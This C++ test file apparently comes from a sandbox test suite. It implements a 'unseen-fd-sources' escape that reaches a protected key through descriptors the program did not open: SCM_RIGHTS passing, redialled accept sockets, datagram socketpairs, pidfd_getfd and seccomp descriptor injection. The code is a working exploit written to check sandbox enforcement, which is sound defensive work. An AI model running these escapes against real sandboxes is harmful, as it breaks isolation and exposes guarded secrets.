// attack: unseen-fd-sources
// class: state
// severity: critical
// models: naive
// launch: victim
// trap: A descriptor need not come from open or socket. A helper outside the sandbox, whose socket
//   the policy allows, sends a directory descriptor of $S as SCM_RIGHTS, for recvmsg or recvmmsg;
//   accept, accept4 and socketpair make sockets; pidfd_getfd takes what another process holds; a
//   seccomp listener of the program's own puts a descriptor into its child. Then it is used.
// naive: The number is not in its table. Unknown means allowed, or a crash.
// kernel: recvmsg installs whatever the sender passed (unix(7)); openat starts the walk there. A TCP
//   socket from accept can be dissolved and connected elsewhere, a datagram pair sends by address
//   (connect(2), unix(7)).
// sealed: Every number is unknown until it is used. The walk begins at /proc/<tid>/fd/<n>, whose
//   name the kernel tells, and the name that results is judged; so is the address given to whatever
//   socket there is. pidfd_getfd and listeners are refused.
// source: Garfinkel, NDSS 2003; pidfd_getfd(2); phylum-dev/birdcage#32
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network allow unix create
//   network allow unix connect $T/giver.sock
//   network allow tcp bind,listen,connect,accept 127.0.0.1:$PORT
//   network allow tcp accept
// report: $S/key
// report: $S/dgram.sock
// report: 127.0.0.1:$TCP
#include "tests/support/pass_descriptor.h"
#include "tests/support/user_notify.h"

namespace attack {
namespace {

// A directory descriptor of $S, from the allowed helper.
int given(bool several) {
  const int s = ::socket(AF_UNIX, SOCK_STREAM, 0);
  sockaddr_un address = un(work("giver.sock"));
  must(::connect(s, as_sockaddr(address), sizeof address) == 0, "the allowed helper");
  const int directory = several ? receive_descriptor_by_mmsg(s) : receive_descriptor(s);
  must(directory >= 0, "the allowed helper gave a descriptor");
  ::close(s);
  return directory;
}

// A connected socket that came of accept or accept4: of a connection that we make ourselves.
int accepted(bool newer) {
  const int listening = socket_of(SOCK_STREAM);
  const int on = 1;
  ::setsockopt(listening, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  sockaddr_in address = v4("127.0.0.1", number("ATTACK_PORT"));
  must(::bind(listening, as_sockaddr(address), sizeof address) == 0, "bind");
  must(::listen(listening, 1) == 0, "listen");
  const int client = socket_of(SOCK_STREAM);
  must(::connect(client, as_sockaddr(address), sizeof address) == 0, "connect to oneself");
  const int s = newer ? ::accept4(listening, nullptr, nullptr, SOCK_CLOEXEC)
                      : ::accept(listening, nullptr, nullptr);
  must(s >= 0, "accept");
  ::close(client);
  ::close(listening);
  return s;
}

// Connects such a socket elsewhere; the answer.
std::string redial(int s, int port) {
  sockaddr unspecified{};
  unspecified.sa_family = AF_UNSPEC;
  must(::connect(s, &unspecified, sizeof unspecified) == 0, "dissolve");
  sockaddr_in address = v4("127.0.0.1", port);
  const bool connected = ::connect(s, as_sockaddr(address), sizeof address) == 0;
  const int error = errno;
  std::string text = connected ? read_all(s) : "";
  ::close(s);
  errno = error;
  return text;
}

// The parent is its child's monitor, and answers openat with a number that it has put there.
void install_in_child() {
  const int directory = given(false);
  int pair[2];
  must(::socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0, "socketpair");
  const pid_t child = spawn([&] {
    ::close(directory);
    const int listener = listen_to(SYS_openat);
    if (listener < 0) ::send(pair[1], "", 1, 0);  // a message without a descriptor
    if (listener < 0 || !send_descriptor(pair[1], listener)) finish(kHeld);
    const auto got = static_cast<int>(::syscall(SYS_openat, AT_FDCWD, "any", O_RDONLY));
    if (got < 0 || ::fchdir(got) != 0) finish(kHeld);
    open_how how{};
    take(static_cast<int>(::syscall(SYS_openat2, AT_FDCWD, "key", &how, sizeof how)));
    finish(kHeld);
  });
  if (const int listener = receive_descriptor(pair[0]); listener >= 0) {
    const Notification call(listener);
    call.answer(call.install(directory));
  }
  if (reap(child) == 0) prey_taken("by a descriptor that was put there");
}

}  // namespace

void strike() {
  const int directory = given(false);
  if (way("recvmsg, openat")) take(::openat(directory, "key", O_RDONLY));
  if (way("recvmsg, fchdir") && ::fchdir(directory) == 0) take("key");
  if (way("recvmsg, dup2 to 0") && ::dup2(directory, 0) == 0) take(::openat(0, "key", O_RDONLY));
  if (way("recvmmsg")) take(::openat(given(true), "key", O_RDONLY));
  for (const bool newer : {false, true}) {
    if (!way(newer ? "accept4" : "accept")) continue;
    const std::string text = redial(accepted(newer), number("ATTACK_TCP"));
    if (!text.empty()) prey_taken(text);
  }
  if (way("socketpair")) {
    int pair[2];
    must(::socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0, "socketpair");
    sockaddr_un address = un(secret("dgram.sock"));
    if (::sendto(pair[0], "x", 1, 0, as_sockaddr(address), sizeof address) == 1) prey_taken("sent");
  }
  if (way("pidfd_getfd")) {
    const auto victim = static_cast<int>(::syscall(SYS_pidfd_open, number("ATTACK_VICTIM"), 0));
    const auto pipe = static_cast<int>(::syscall(438 /* pidfd_getfd */, victim, 0, 0));
    char text[64]{};
    if (pipe >= 0 && ::read(pipe, text, sizeof text - 1) > 0) prey_taken(text);
  }
  if (way("SECCOMP_ADDFD")) install_in_child();
  errno = EACCES;
  held("descriptors that came of themselves");
}

// The same among ourselves: a directory of $T passed over a socketpair, a connection of our own.
void twin() {
  for (const bool several : {false, true}) {
    int pair[2];
    must(::socketpair(AF_UNIX, SOCK_STREAM, 0, pair) == 0, "socketpair");
    pid_t child = spawn([&] {
      must(send_descriptor(pair[0], ::open(work("").c_str(), O_RDONLY | O_DIRECTORY)), "sendmsg");
    });
    const int directory =
        several ? receive_descriptor_by_mmsg(pair[1]) : receive_descriptor(pair[1]);
    must(reap(child) == 0, "sender");
    const int fd = ::openat(directory, "ok.dat", O_RDONLY);
    must(fd >= 0 && read_all(fd) == kHarmless, "openat(received, ok.dat)");
  }
  for (const bool newer : {false, true}) {
    const int s = accepted(newer);
    char byte = 0;
    must(::read(s, &byte, 1) == 0, "the accepted connection, which its other end has left");
    ::close(s);
  }
  twin_ok();
}

}  // namespace attack
